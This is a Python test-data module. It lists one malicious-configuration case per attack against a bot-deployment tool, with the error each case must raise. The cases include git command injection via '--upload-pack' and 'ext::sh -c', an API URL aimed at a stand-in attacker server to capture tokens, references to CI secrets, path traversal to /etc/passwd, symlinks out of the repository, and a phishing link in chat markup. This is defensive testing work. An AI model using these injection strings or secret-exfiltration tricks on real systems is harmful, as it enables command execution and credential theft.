"""The hostile-repository corpus (#23): what whoever can open a pull request or push a commit
puts into a configuration repository, one case per attack, each run by
``tests/test_hostile_repository.py`` as CI runs ``botctl plan`` on a pull request and as the
agent meets it on a pushed commit.

Every case may name the *attacker*: a loopback TCP server that records every connection it
accepts (an HTTP request, a TLS handshake, a git fetch alike), which must get none, and a
*marker* file, which a command the repository made botctl run would create. The operator's
environment holds the secrets no output, file or request may show.
"""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from tests.e2e_support import bot_yaml
from tests.samples import sample_size

# The operator's secrets, each distinctive enough to be searched for in every byte.
KEY = "sk-hostile-operator-KEY-4f1d9a"
STATE_KEY = "bsk1_hostile-state-key-71c2e0-never-shown"
OLD_STATE_KEY = "bsk1_hostile-old-state-key-55aa01"
AWS = "aws-secret-Ab3/hostile+9921-never-shown"
GITHUB_TOKEN = "ghs_hostileGithubToken0042neverShown"
GIT_TOKEN = "ghp_hostileGitToken7731neverShown"
HOOK = "hostile-webhook-secret-8812"
SECRETS = {
    "BOTCTL_API_KEY": KEY,
    "BOTCTL_STATE_KEY": STATE_KEY,
    "BOTCTL_OLD_STATE_KEY": OLD_STATE_KEY,
    "AWS_SECRET_ACCESS_KEY": AWS,
    "GITHUB_TOKEN": GITHUB_TOKEN,
    "BOTCTL_GIT_TOKEN": GIT_TOKEN,
    "HOOK_SECRET": HOOK,
}
# A file of zeros beside the YAML (64 MiB by default; 3 GiB in the long run), and a YAML file
# over the limit of one file.
BIG_BYTES = sample_size("BOTCTL_HOSTILE_BIG_BYTES", 64 << 20, 3 << 30)
BIG_YAML_BYTES = 24 << 20

GOOD_SETTINGS = "name: Support Bot\nmodel: gpt-4o-mini\ntemp: 0.2"
GOOD_BOT = bot_yaml("support", "bot-1", settings=GOOD_SETTINGS)
PROJECT = "apiVersion: botctl/v1\nkind: Project\npaths: [bots]\n"


@dataclass(frozen=True)
class Link:
    """A symbolic link committed in the repository."""

    target: str


@dataclass(frozen=True)
class Zeros:
    """A file of ``size`` zero bytes (written in pieces, never held whole)."""

    size: int


@dataclass(frozen=True)
class Submodule:
    """A gitlink (a submodule's commit) committed at its path."""


Content = str | Link | Zeros | Submodule | None  # None: the file is removed


@dataclass(frozen=True)
class World:
    """What a case's files may name: the attacker's address and the marker's path."""

    attacker: str  # http://127.0.0.1:PORT
    marker: Path


@dataclass(frozen=True)
class Case:
    name: str
    files: Callable[[World], dict[str, Content]]  # paths relative to the repository's root
    # What the error says, in CI's plan and in the agent's invalidRevision; None: the case is
    # no error (its attack is that it costs nothing: memory, disk).
    ci_error: str | None
    agent_error: str | None
    notes: str = ""
    extra: dict[str, str] = field(default_factory=dict)  # the operator's environment, added
    notified: str = ""  # what the agent's failed notification's text shows (escaped)


def _bot(settings: str = GOOD_SETTINGS, extra: str = "") -> str:
    return bot_yaml("support", "bot-1", settings=settings, extra=extra)


def _project(extra: str) -> str:
    return PROJECT + extra


CORPUS: list[Case] = [
    Case(
        "git-option-in-state-url",
        lambda w: {
            "botctl.yaml": _project(f"state: 'git+--upload-pack=touch {w.marker};#main:s.json'\n")
        },
        ci_error="state 'git+--upload-pack=touch",
        agent_error="state 'git+--upload-pack=touch",
        notes="attack 1: git would take the repository for an option and run a command",
    ),
    Case(
        "ext-transport-in-state-url",
        lambda w: {
            "botctl.yaml": _project(f"state: 'git+ext::sh -c touch% {w.marker}#m:s.json'\n")
        },
        ci_error="state 'git+ext::sh -c",
        agent_error="state 'git+ext::sh -c",
        notes="git's ext:: transport runs a command",
    ),
    Case(
        "api-url-of-the-attacker",
        lambda w: {"botctl.yaml": _project(f"apiUrl: {w.attacker}/api/v1\n")},
        ci_error="differs from the operator's",
        agent_error="apiUrl 'http://127.0.0.1:",
        notes="attacks 2 and 3: the key sent as the bearer token to the attacker",
    ),
    Case(
        "api-key-env-names-the-state-key",
        lambda w: {"bots/support.yaml": _bot(extra="apiKeyEnv: BOTCTL_STATE_KEY")},
        ci_error="BOTCTL_STATE_KEY is one of botctl's own secrets",
        agent_error="apiKeyEnv BOTCTL_STATE_KEY",
        notes="attack 2: the state key sent as an API key",
    ),
    Case(
        "api-key-env-names-a-cloud-credential",
        lambda w: {"bots/support.yaml": _bot(extra="apiKeyEnv: AWS_SECRET_ACCESS_KEY")},
        ci_error="AWS_SECRET_ACCESS_KEY is not exposed to the configuration",
        agent_error="AWS_SECRET_ACCESS_KEY is not exposed",
    ),
    Case(
        "plain-variables-read-ci-secrets",
        lambda w: {
            "bots/support.yaml": _bot(
                "name: Support Bot\n"
                "instructions: 'k=${AWS_SECRET_ACCESS_KEY} t=${GITHUB_TOKEN} s=${BOTCTL_STATE_KEY}'"
            )
        },
        ci_error="${AWS_SECRET_ACCESS_KEY}: AWS_SECRET_ACCESS_KEY is not exposed",
        agent_error="AWS_SECRET_ACCESS_KEY is not exposed",
        notes="attacks 2 and 4: secrets in the plan comment, the service and the state",
    ),
    Case(
        "secret-reference-reads-botctl-secrets",
        lambda w: {
            "bots/support.yaml": _bot(
                "name: Support Bot\n"
                "instructions: 'x ${secret:BOTCTL_GIT_TOKEN} ${secret:HOOK_SECRET}'"
            )
        },
        ci_error="BOTCTL_GIT_TOKEN is one of botctl's own secrets",
        agent_error="BOTCTL_GIT_TOKEN is one of botctl's own secrets",
        notes="${secret:} is masked, but would reach the service (and a chat user)",
    ),
    Case(
        "credential-shaped-plain-variable",
        lambda w: {"bots/support.yaml": _bot("name: 'Bot ${DEPLOY_PASSWORD}'")},
        ci_error="${DEPLOY_PASSWORD}: DEPLOY_PASSWORD is not exposed",
        agent_error="DEPLOY_PASSWORD is not exposed",
        extra={"DEPLOY_PASSWORD": "hunter2-deploy-password-000"},
    ),
    Case(
        "paths-outside-the-repository",
        lambda w: {
            "botctl.yaml": "apiVersion: botctl/v1\nkind: Project\n"
            "paths: [bots, '../../etc/passwd', '/proc/self/cwd/.botctl/state.json.key']\n"
        },
        ci_error="leaves the repository",
        agent_error="leaves the repository",
        notes="attack 5: host files read, another team's YAML pulled into the fleet",
    ),
    Case(
        "paths-to-another-teams-configuration",
        lambda w: {"botctl.yaml": _project("").replace("[bots]", "[bots, ../other-team]")},
        ci_error="'../other-team' leaves the repository",
        agent_error="'../other-team' leaves the repository",
    ),
    Case(
        "symlink-to-a-host-file",
        lambda w: {"bots/passwd.yaml": Link("/etc/passwd")},
        ci_error="a symbolic link leading out of the repository",
        agent_error="bots/passwd.yaml: a symbolic link",
        notes="attack 7: a committed symlink (the last good revision must stay in force)",
    ),
    Case(
        "symlinked-directory-in-paths",
        lambda w: {
            "botctl.yaml": _project("").replace("[bots]", "[bots, etc]"),
            "etc": Link("/etc"),
        },
        ci_error="leads out of the repository",
        agent_error="etc: a symbolic link",
    ),
    Case(
        "submodule",
        lambda w: {"bots/vendored": Submodule()},
        ci_error=None,  # a checkout without its submodule: nothing to read there
        agent_error="bots/vendored: a submodule",
    ),
    Case(
        "large-file-beside-the-yaml",
        lambda w: {"bots/dump.bin": Zeros(BIG_BYTES)},
        ci_error=None,
        agent_error=None,
        notes="attack 6: never read, never unpacked: memory and disk stay bounded",
    ),
    Case(
        "yaml-file-over-the-limit",
        lambda w: {"bots/huge.yaml": Zeros(BIG_YAML_BYTES)},
        ci_error="larger than",
        agent_error="bytes per file",
    ),
    Case(
        "chat-markup-in-a-value",
        lambda w: {
            "bots/support.yaml": _bot(
                "name: Support Bot\nmodel: '<!channel> <https://evil.example/login|Click here>'"
            )
        },
        ci_error="model",
        agent_error="model",
        notes="attack 8: the failed notification must ping no one and link nowhere",
        notified="&lt;!channel&gt; &lt;https://evil.example/login|Click here&gt;",
    ),
    Case(
        "bidirectional-controls-in-a-value",
        lambda w: {"bots/support.yaml": _bot("name: 'PASS \u202eLIAF'\ntemp: 0.3")},
        ci_error=None,
        agent_error=None,
        notes="item 9: a value that would show reversed in a terminal or a comment",
    ),
]


class Attacker:
    """A loopback TCP server recording every connection it accepts, and what came first;
    ``hold``: it keeps each connection open and says nothing (a remote that accepts and
    never answers)."""

    def __init__(self, *, hold: bool = False) -> None:
        self.hold = hold
        self.connections: list[bytes] = []
        self._held: list[socket.socket] = []
        self._sock = socket.create_server(("127.0.0.1", 0))
        self._sock.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def port(self) -> int:
        return int(self._sock.getsockname()[1])

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except OSError:
                continue
            if self.hold:
                self.connections.append(b"")
                self._held.append(conn)
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.connections.append(conn.recv(4096))
                except OSError:
                    self.connections.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        for conn in self._held:
            conn.close()
        self._sock.close()


def write_files(root: Path, files: dict[str, Content]) -> None:
    """``files`` written under ``root`` (a working tree); a submodule is left to ``commit``."""
    for name, content in files.items():
        path = root / name
        if path.is_symlink() or path.is_file():
            path.unlink()
        if content is None or isinstance(content, Submodule):
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link):
            path.symlink_to(content.target)
        elif isinstance(content, Zeros):
            with path.open("wb") as out:
                left = content.size
                while left:
                    n = min(left, 1 << 20)
                    out.write(bytes(n))
                    left -= n
        else:
            path.write_text(content, encoding="utf-8")


def gitlinks(files: dict[str, Content]) -> Iterator[str]:
    return (name for name, content in files.items() if isinstance(content, Submodule))


def every_byte(root: Path, skip: set[Path]) -> Iterator[tuple[Path, bytes]]:
    """Every regular file under ``root`` (its symbolic links not followed), but ``skip``."""
    for directory, _, names in os.walk(root):
        for name in names:
            path = Path(directory, name)
            if path in skip or path.is_symlink() or not path.is_file():
                continue
            yield path, path.read_bytes()


def disk_usage(root: Path) -> int:
    total = 0
    for directory, _, names in os.walk(root):
        for name in names:
            path = Path(directory, name)
            if not path.is_symlink():
                total += path.stat().st_blocks * 512
    return total
